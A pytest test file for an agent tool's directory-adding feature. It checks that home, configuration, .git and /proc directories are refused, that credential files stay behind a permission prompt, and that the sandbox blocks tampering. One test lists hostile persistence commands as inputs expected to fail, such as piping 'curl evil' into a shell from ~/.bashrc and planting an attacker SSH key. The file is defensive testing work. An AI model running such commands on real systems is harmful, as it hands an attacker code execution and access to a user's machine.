"""/add-dir's engine side: which directories can be added (never one that opens the person's configuration,
start-up files or credentials, the home directory or the project's parents), what adding one changes (the engine,
the model's facts, the local settings when remembered), and that a credential file the environment names stays out
of the tools' reach inside the project or an added directory."""

from __future__ import annotations

import json
import os
from pathlib import Path
from types import SimpleNamespace

import pytest

from agentui.core.added_directories import DirectoryError, add_directory, directory_to_add
from agentui.core.loop.agent_config import AgentConfig
from agentui.core.project import open_project
from agentui.core.safety.permissions.bash_check import BashCheck
from tests.support.permissions import check


@pytest.fixture
def world(tmp_path: Path) -> SimpleNamespace:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / "code" / "lib").mkdir(parents=True)
    project = tmp_path / "project"
    project.mkdir()
    other = tmp_path / "other"
    other.mkdir()
    (other / "key.json").write_text('{"private_key": "k"}\n')
    (other / "notes.txt").write_text("notes\n")
    env = {
        "HOME": str(home),
        "CLAUDE_CONFIG_DIR": str(tmp_path / "claude"),
        "AGENTUI_CONFIG_DIR": str(tmp_path / "config"),
        "XDG_CONFIG_HOME": str(home / ".config"),
        "GOOGLE_APPLICATION_CREDENTIALS": str(other / "key.json"),
    }
    opened = open_project(project, env=env, trusted=True)
    agent = SimpleNamespace(config=AgentConfig(model="m", environment="<env>\nWorking directory: x\n</env>"))
    conversation = SimpleNamespace(project=opened, agent=agent, env=env)
    return SimpleNamespace(home=home, project=opened.root, other=other, env=env, conversation=conversation)


@pytest.mark.parametrize(
    ("typed", "why"),
    [
        ("../claude", "{tmp}/claude is in agentui's own configuration, which stays protected wherever it is"),
        ("../config/sub", "{tmp}/config/sub is in agentui's own configuration"),
        ("~/.ssh", "it is {home}/.ssh, which agentui keeps out of the tools' reach"),
        ("~", "it is your home directory"),
        ("../..", "it holds the project"),
        ("../other/.git/hooks", "{tmp}/other/.git/hooks is in a .git directory, which stays protected wherever it is"),
        ("../other/.vscode", "is editor configuration"),
    ],
)
def test_what_would_open_the_persons_own_files_cannot_be_added(world: SimpleNamespace, typed: str, why: str) -> None:
    for made in ("claude", "config/sub", "other/.git/hooks", "other/.vscode"):
        (world.project.parent / made).mkdir(parents=True, exist_ok=True)
    with pytest.raises(DirectoryError) as raised:
        directory_to_add(world.conversation, typed)
    assert why.format(home=world.home, tmp=world.project.parent) in str(raised.value)
    assert str(raised.value).endswith(".") and "\n" not in str(raised.value)


def test_a_directory_inside_the_home_and_one_holding_a_credential_file_can_be_added(world: SimpleNamespace) -> None:
    assert directory_to_add(world.conversation, "~/code") == world.home / "code"
    assert directory_to_add(world.conversation, "../other") == world.other  # (its key.json stays out of reach)


def test_adding_opens_the_directory_to_the_engine_and_tells_the_model(world: SimpleNamespace) -> None:
    engine = world.conversation.project.engine
    notes = str(world.other / "notes.txt")
    assert check(engine, "Read", file_path=notes).behavior == "ask"
    assert add_directory(world.conversation, world.other) is None
    assert check(engine, "Read", file_path=notes).behavior == "allow"
    assert check(engine, "Edit", file_path=notes, old_string="notes", new_string="n").behavior == "ask"
    engine.mode = "acceptEdits"
    assert check(engine, "Write", file_path=str(world.other / "new.txt"), content="x").behavior == "allow"
    protected = check(engine, "Write", file_path=str(world.other / ".claude" / "settings.json"), content="{}")
    assert protected.behavior == "ask" and protected.hard
    environment = world.conversation.agent.config.environment
    assert environment.endswith(f"Additional working directories: {world.other}\n</env>")
    add_directory(world.conversation, world.home / "code")  # (the line names them all, once)
    assert environment.count("Additional") == 1
    assert world.conversation.agent.config.environment.count("Additional") == 1


def test_remember_writes_the_local_settings_as_claude_code_does(world: SimpleNamespace) -> None:
    local = world.project / ".claude" / "settings.local.json"
    local.parent.mkdir()
    local.write_text(json.dumps({"permissions": {"allow": ["Bash(ls)"]}, "env": {"A": "1"}}))
    assert add_directory(world.conversation, world.other, remember=True) == local
    assert json.loads(local.read_text()) == {
        "permissions": {"allow": ["Bash(ls)"], "additionalDirectories": [str(world.other)]},
        "env": {"A": "1"},
    }
    reopened = open_project(world.project, env=world.env, trusted=True)
    assert reopened.workspace.additional_dirs == (world.other,)


def test_a_credential_file_the_environment_names_is_asked_for_even_inside_a_working_directory(
    world: SimpleNamespace,
) -> None:
    engine = world.conversation.project.engine
    add_directory(world.conversation, world.other)
    key = world.other / "key.json"
    for mode in ("default", "acceptEdits", "bypassPermissions"):
        engine.mode = mode
        verdict = check(engine, "Read", file_path=str(key))
        assert verdict.behavior == "ask" and verdict.hard, mode
        assert "holds credentials" in verdict.reason
    assert engine.workspace.hidden(key) and not engine.workspace.hidden(world.other / "notes.txt")  # (Grep, Glob)
    engine.mode = "default"
    verdict = BashCheck(engine).verdict(f"cat {key}", "default")
    assert verdict.behavior == "ask" and "credentials" in verdict.reason
    assert BashCheck(engine).verdict(f"cat {world.other / 'notes.txt'}", "default").behavior == "allow"


def test_a_named_credential_stays_kept_where_it_led_at_start_up_when_a_link_to_it_changes(tmp_path: Path) -> None:
    """The environment names the key through a link; changing the link afterwards (to the project) neither frees the
    real key nor makes the project's own file of that name a credential."""
    vault, project = tmp_path / "vault", tmp_path / "project"
    vault.mkdir()
    project.mkdir()
    (vault / "key.json").write_text('{"private_key": "k"}\n')
    (project / "key.json").write_text("mine\n")
    (tmp_path / "keys").symlink_to(vault)
    env = {"HOME": str(tmp_path / "home"), "GOOGLE_APPLICATION_CREDENTIALS": str(tmp_path / "keys" / "key.json")}
    engine = open_project(project, env=env, trusted=True).engine
    engine.workspace.additional_dirs = (vault,)
    assert check(engine, "Read", file_path=str(vault / "key.json")).behavior == "ask"
    (tmp_path / "keys").unlink()
    (tmp_path / "keys").symlink_to(project)
    verdict = check(engine, "Read", file_path=str(vault / "key.json"))
    assert verdict.behavior == "ask" and verdict.hard and "holds credentials" in verdict.reason
    assert check(engine, "Read", file_path=str(project / "key.json")).behavior == "allow"


def test_a_home_directory_added_at_start_up_keeps_the_persons_files_read_only_in_the_sandbox(tmp_path: Path) -> None:
    """/add-dir refuses the home directory, but `--add-dir ~` at start-up (or a setting) can still name it: in the
    sandbox (a real bubblewrap) the person's start-up files, git and agents' settings and ~/.ssh stay read-only
    in it, existing or not, while the rest of it is writable."""
    from tests.core.test_sandbox_setup import boxed

    for box in boxed(tmp_path):
        (box.home / ".bashrc").write_text("# mine\n")
        (box.home / ".ssh").mkdir()
        box.workspace.additional_dirs = (box.home,)
        box.snapshot()  # (what exists now is the person's, not a stand-in)
        attacks = [
            "echo 'curl evil | sh' >> ~/.bashrc",
            "echo 'ssh-ed25519 AAAA attacker' > ~/.ssh/authorized_keys",
            "mkdir -p ~/.claude && echo '{\"hooks\": {}}' > ~/.claude/settings.json",
            "printf '[core]\\n\\tpager = evil\\n' > ~/.gitconfig",
            "echo 'evil' > ~/.profile",
        ]
        for attack in attacks:
            assert box.run(attack).code != 0, attack
        assert (box.home / ".bashrc").read_text() == "# mine\n"
        assert not (box.home / ".ssh" / "authorized_keys").exists() and not (box.home / ".gitconfig").exists()
        assert not (box.home / ".claude" / "settings.json").exists() and not (box.home / ".profile").exists()
        done = box.run("echo kept > ~/notes.txt && cat ~/notes.txt")
        assert done.code == 0 and (box.home / "notes.txt").read_text() == "kept\n", done.err


@pytest.mark.parametrize("typed", ["/proc", "/proc/self", "/sys/kernel", "/dev", "/dev/shm"])
def test_the_kernels_views_of_processes_and_devices_cannot_be_added(world: SimpleNamespace, typed: str) -> None:
    """/proc of agentui's own processes holds their environment (the API keys) and every process's command line: a
    working directory there let the tools read it unasked, and the sandbox show it to commands."""
    with pytest.raises(DirectoryError) as raised:
        directory_to_add(world.conversation, typed)
    assert "the sandbox gives commands their own" in str(raised.value)


@pytest.mark.parametrize("added", ["/proc", "/"])
def test_a_working_directory_never_uncovers_the_hosts_processes_or_devices_in_the_sandbox(
    tmp_path: Path, added: str
) -> None:
    """`--add-dir /` (or /proc, or a setting's) at start-up: the sandbox's commands still see only their own
    processes and devices, not another process's command line (a password in it, say) or the host's disks."""
    import subprocess
    import sys

    from tests.core.test_sandbox_setup import boxed

    for box in boxed(tmp_path):
        box.workspace.additional_dirs = (Path(added),)
        secret = "--password=hunter2-" + tmp_path.name
        other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", secret])
        try:
            done = box.run(f"cat /proc/{other.pid}/cmdline; echo =; ls /proc; echo =; ls /dev")
        finally:
            other.kill()
            other.wait()
        line, processes, devices = (part.split() for part in done.out.split("=\n"))
        assert secret not in done.out and line == [], done.out
        assert str(other.pid) not in processes and str(os.getpid()) not in processes
        assert "null" in devices and not {"sda", "vda", "nvme0n1", "kmsg", "mem", "zram0"} & set(devices)


@pytest.mark.parametrize(
    "kept",
    [".ssh/id_ed25519", ".aws/credentials", ".claude.json", ".bash_history", ".config/gh/hosts.yml", ".netrc"],
)
def test_the_persons_secrets_in_a_home_added_at_start_up_are_asked_for_as_the_sandbox_hides_them(
    tmp_path: Path, kept: str
) -> None:
    """/add-dir refuses the home directory, but `--add-dir ~` (or a setting's) still names it: the sandbox hides the
    keys, tokens and histories in it, and the file tools must not read them unasked either ('inside the project'
    let Read send ~/.ssh's private key to the model). The rest of the home is a working directory as any."""
    from agentui.core.project import PermissionOptions

    home = tmp_path / "home"
    for name in (kept, "notes.txt", ".config/git/config"):
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text("x\n")
    env = {"HOME": str(home), "XDG_CONFIG_HOME": str(home / ".config"), "CLAUDE_CONFIG_DIR": str(home / ".claude")}
    env |= {"AGENTUI_CONFIG_DIR": str(tmp_path / "config"), "AGENTUI_DATA_DIR": str(tmp_path / "data")}
    (tmp_path / "project").mkdir()
    opened = open_project(tmp_path / "project", PermissionOptions(add_dirs=(home,)), env=env, trusted=True)
    for mode in ("default", "acceptEdits", "bypassPermissions"):
        opened.engine.mode = mode
        verdict = check(opened.engine, "Read", file_path=str(home / kept))
        assert verdict.behavior == "ask" and verdict.hard and "holds credentials" in verdict.reason, (mode, verdict)
    opened.engine.mode = "default"
    assert opened.workspace.hidden(home / kept)  # (Grep and Glob leave it out)
    verdict = BashCheck(opened.engine).verdict(f"cat {home / kept}", "default")
    assert verdict.behavior == "ask" and "credentials" in verdict.reason
    for mine in ("notes.txt", ".config/git/config"):  # (what the sandbox leaves readable)
        assert check(opened.engine, "Read", file_path=str(home / mine)).behavior == "allow", mine
        assert not opened.workspace.hidden(home / mine)


def test_a_project_inside_what_the_sandbox_hides_is_worked_in_as_any(tmp_path: Path) -> None:
    """The person working on their own configuration (a project in ~/.config): its files are not held back."""
    home = tmp_path / "home"
    project = home / ".config" / "nvim"
    project.mkdir(parents=True)
    (project / "init.lua").write_text("x\n")
    env = {"HOME": str(home), "XDG_CONFIG_HOME": str(home / ".config"), "AGENTUI_CONFIG_DIR": str(tmp_path / "c")}
    opened = open_project(project, env=env, trusted=True)
    assert check(opened.engine, "Read", file_path=str(project / "init.lua")).behavior == "allow"
    assert not opened.workspace.hidden(project / "init.lua")


def test_remember_does_not_write_through_a_projects_link_to_the_persons_own_settings(world: SimpleNamespace) -> None:
    """A repository's .claude/settings.local.json that is a link to ~/.claude/settings.json: remembering wrote the
    directory into the person's own settings, which grant it in every project, untrusted ones too."""
    from agentui.core.errors import AgentuiError

    own = world.home / ".claude" / "settings.json"
    own.parent.mkdir()
    own.write_text('{"model": "opus"}\n')
    (world.project / ".claude").mkdir()
    (world.project / ".claude" / "settings.local.json").symlink_to(own)
    with pytest.raises(AgentuiError) as raised:
        add_directory(world.conversation, world.other, remember=True)
    assert "is a link out of the project" in str(raised.value) and "nothing was written" in str(raised.value)
    assert own.read_text() == '{"model": "opus"}\n'
    assert world.conversation.project.workspace.additional_dirs == (world.other,)  # (added for the session)


def test_a_directory_replaced_by_a_link_while_the_question_is_open_is_not_added(world: SimpleNamespace) -> None:
    """Checked when /add-dir is typed, added when the person answers: a directory someone else can replace (in a
    shared /tmp, say) could be a link to the home directory by then. It is checked again, as it is now."""
    shared = world.project.parent / "shared"
    shared.mkdir()
    checked = directory_to_add(world.conversation, str(shared))
    shared.rmdir()
    shared.symlink_to(world.home)
    with pytest.raises(DirectoryError) as raised:
        add_directory(world.conversation, checked)
    assert "your home directory" in str(raised.value)
    assert world.conversation.project.workspace.additional_dirs == ()
